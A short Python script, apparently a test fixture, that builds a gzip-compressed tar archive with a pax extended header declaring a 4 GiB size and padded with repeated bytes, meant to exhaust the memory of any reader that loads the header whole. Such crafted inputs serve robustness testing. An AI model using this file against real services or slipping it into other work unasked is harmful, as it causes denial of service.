"""A tar whose extended header is endless: a reader that takes it whole runs out of memory."""

import gzip
import tarfile


def make(path, entry):
    info = tarfile.TarInfo("./@PaxHeader")
    info.type, info.size = tarfile.XHDTYPE, 4 << 30
    with gzip.open(path, "wb", compresslevel=1) as file:
        file.write(info.tobuf(tarfile.USTAR_FORMAT))
        for _ in range(64):
            file.write(b"9" * (1 << 20))
